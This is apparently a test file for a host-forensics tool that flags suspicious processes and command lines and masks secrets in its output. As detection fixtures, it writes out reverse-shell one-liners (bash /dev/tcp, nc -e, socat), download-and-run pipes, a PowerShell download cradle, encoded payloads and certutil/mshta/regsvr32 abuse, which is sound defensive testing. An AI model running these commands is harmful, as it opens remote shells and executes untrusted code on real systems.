"""Running processes: what an honest one looks like, and each sign of one that is not."""

from __future__ import annotations

from pathlib import Path

import pytest

from atttcli.field.host.commands import asked_of, judge, masked
from atttcli.field.records import KnownBad
from tests.support.host_tree import PASSWD, hits, observed, problems, process, put, rules, seen


@pytest.fixture
def root(tmp_path: Path) -> Path:
    put(tmp_path, "/etc/passwd", PASSWD)
    put(tmp_path, "/proc/stat", "cpu 1 2 3\nbtime 1790000000\n")
    (tmp_path / "proc/self").mkdir()
    process(tmp_path, 1, "/usr/lib/systemd/systemd", b"/sbin/init\0splash\0")
    process(tmp_path, 2, "", name="kthreadd", ppid=0)
    process(tmp_path, 9, "", name="kworker/0:1", ppid=2)
    process(tmp_path, 500, "/usr/sbin/sshd", b"sshd: /usr/sbin/sshd -D [listener]\0", environ=b"LANG=C\0PATH=/bin\0")
    return tmp_path


def test_honest_processes_meet_no_rule_and_are_told_with_user_and_start(root: Path) -> None:
    found = seen(root, "processes")
    assert rules(found) == set()
    assert problems(found) == {}
    told = observed(found, "processes")
    assert told["/usr/sbin/sshd"]["user"] == "root"
    assert told["/usr/sbin/sshd"]["started"] == 1790000050
    assert told["[kworker/0:1]"]["exe"] == ""


@pytest.mark.parametrize(
    ("exe", "command", "rule"),
    [
        ("/usr/sbin/nginx (deleted)", b"nginx\0", "host.process-deleted-exe"),
        ("/tmp/.a/x (deleted)", b"x\0", "host.process-deleted-exe-temp"),
        ("/memfd:kernel (deleted)", b"[kworker/u8:2]\0", "host.process-memfd"),
        ("/dev/shm/miner", b"./miner\0", "host.process-temp-exe"),
        ("/usr/lib/.cache/sshd", b"sshd\0", "host.process-hidden-path"),
        ("/usr/bin/perl", b"[kworker/u8:2]\0", "host.process-kernel-name"),
        ("/usr/bin/perl", b"[kswapd0]\0", "host.process-kernel-name"),
        ("/usr/bin/bash", b"bash\0-c\0bash -i >& /dev/tcp/203.0.113.9/443 0>&1\0", "host.command-reverse-shell"),
        ("/usr/bin/dash", b"sh\0-c\0curl -s http://bad.example/x | sh\0", "host.command-download-run"),
    ],
)
def test_each_sign_is_told(root: Path, exe: str, command: bytes, rule: str) -> None:
    process(root, 4000, exe, command, ppid=1, uid=1000)
    assert rule in rules(seen(root, "processes"))


def test_a_library_forced_in_is_told_and_no_other_value_of_the_environment(root: Path) -> None:
    environ = b"PASSWORD=hunter2\0LD_PRELOAD=/tmp/.x.so /usr/lib/libjemalloc.so\0"
    process(root, 4000, "/usr/bin/sleep", b"sleep\x009\0", environ=environ)
    process(
        root, 4001, "/usr/bin/redis", b"redis\0", environ=b"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\0"
    )
    found = seen(root, "processes")
    assert hits(found) == {("host.process-preload", "/usr/bin/sleep")}
    assert "hunter2" not in repr(found)


def test_secrets_of_a_command_line_do_not_travel(root: Path) -> None:
    process(root, 4000, "/usr/bin/mysql", b"mysql\0--password=Hai2026\0-u\0lan\0")
    assert "Hai2026" not in repr(seen(root, "processes"))
    assert masked("curl -H 'Authorization: Bearer abc.def' http://u:geheim@h.example/") == (
        "curl -H 'Authorization: Bearer ***' http://u:***@h.example/"
    )


def test_passwords_of_database_clients_are_masked() -> None:
    assert masked("mysqldump -u root -pgeheim --all") == "mysqldump -u root -p*** --all"
    assert masked("cp -pr a b; mkdir -p /x") == "cp -pr a b; mkdir -p /x"


def test_lists_are_asked_about_programs_addresses_and_names(root: Path) -> None:
    bad = {"203.0.113.9": "address", "c2.example": "domain", "/opt/x/agent": "name"}
    process(root, 4000, "/opt/x/agent", b"/opt/x/agent\0--to\x00203.0.113.9\x00--http\x00https://C2.example/a\0")

    def look_up(kind: str, value: str) -> list[KnownBad]:
        return [KnownBad(kind, value, "list", "C2", "c2", 4)] if bad.get(value) == kind else []

    found = [one for one in seen(root, "processes", look_up=look_up) if one.rule.startswith("host.known-bad")]
    assert {one.rule for one in found} == {f"host.known-bad:{value}" for value in bad}
    assert {one.severity for one in found} == {4}
    assert found[0].detail["indicator"]["source"] == "list"


def test_two_megabytes_of_command_line_and_odd_bytes_are_bounded(root: Path) -> None:
    process(root, 4000, "/usr/bin/x", b"a" * 2_000_000)
    process(root, 4001, "/usr/bin/y\udcff", b"\xff\xfe\x1b]0;x\x07\0" * 9, name="y) S 3 (")
    found = observed(seen(root, "processes"), "processes")
    assert len(found["/usr/bin/x"]["command"]) <= 1001
    assert found["/usr/bin/x"]["command_cut"] is True
    assert "/usr/bin/y\\xff" in found


def test_a_process_that_vanishes_is_left_out(root: Path) -> None:
    (root / "proc/777").mkdir()  # listed, and its files gone by the time they are read
    assert problems(seen(root, "processes")) == {}


def test_commands_of_administrators_are_no_finding() -> None:
    for command in (
        "/usr/bin/find /tmp -type f -mtime +7 -delete",
        "rm -rf /tmp/cache",
        "sudo -n rm -rf /tmp/cache",
        "cd /tmp && tar xzf a.tgz && cd /srv && ./install",
        "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
        "curl -fsS https://hc.example/ping -o /dev/null",
        "command -v debian-sa1 > /dev/null && debian-sa1 1 1",
        "tar czf /tmp/backup.tgz /etc",
        "wget -q -O /var/tmp/list https://list.example/a && mv /var/tmp/list /srv/list",
        "powershell.exe -File C:\\Scripts\\backup.ps1",
        '"C:\\Program Files\\App\\app.exe" /background',
        "rundll32.exe shell32.dll,Control_RunDLL",
    ):
        assert judge(command) == (), command


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("[ -x /tmp/a ] && /tmp/a", "host.command-temp"),
        ("bash /var/tmp/.u/run.sh", "host.command-temp"),
        ("cd /tmp && chmod +x a && ./a", "host.command-temp"),
        ("/usr/bin/env LANG=C /tmp/a", "host.command-temp"),
        ("sudo -u www-data nice -n 10 /dev/shm/a", "host.command-temp"),
        ("bash -c '/tmp/a --b'", "host.command-temp"),
        ("FOO=1 nohup /dev/shm/k &", "host.command-temp"),
        ("C:\\Users\\lan\\AppData\\Local\\Temp\\u.exe", "host.command-temp"),
        ("wget -qO- http://x.example/i.py | python3 -", "host.command-download-run"),
        (
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example')\"",
            "host.command-download-run",
        ),
        ("echo Y3VybA== | base64 -d | bash", "host.command-encoded"),
        ("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3ACkA", "host.command-encoded"),
        ("mshta http://x.example/a.hta", "host.command-living-off"),
        ("regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll", "host.command-living-off"),
        ("certutil -urlcache -split -f http://x.example/a a.exe", "host.command-living-off"),
        ("nc -e /bin/sh 203.0.113.9 4444", "host.command-reverse-shell"),
        ("socat tcp:203.0.113.9:443 exec:'bash -li',pty", "host.command-reverse-shell"),
    ],
)
def test_commands_of_intruders(command: str, rule: str) -> None:
    assert rule in judge(command)


def test_only_addresses_that_somebody_else_has_are_asked_about() -> None:
    asked = asked_of("x 127.0.0.1 0.0.0.0 999.1.1.1 203.0.113.9 http://[::1]/ ftp://a@Host.example:21/ 1.2.3.4.5")
    assert ("address", "203.0.113.9") in asked
    assert ("domain", "host.example") in asked
    assert [value for kind, value in asked if kind == "address"] == ["203.0.113.9"]


def test_judging_hostile_text_takes_no_time() -> None:
    import time

    began = time.process_time()
    for piece in (
        "curl ",
        "curl x|",
        "nc -",
        "base64 -d ",
        "password=",
        "/tmp/",
        "powershell -e ",
        "http://a",
        "A" * 50 + " ",
    ):
        judge(piece * 20_000)
        masked(piece * 20_000)
        asked_of(piece * 20_000)
    assert time.process_time() - began < 3
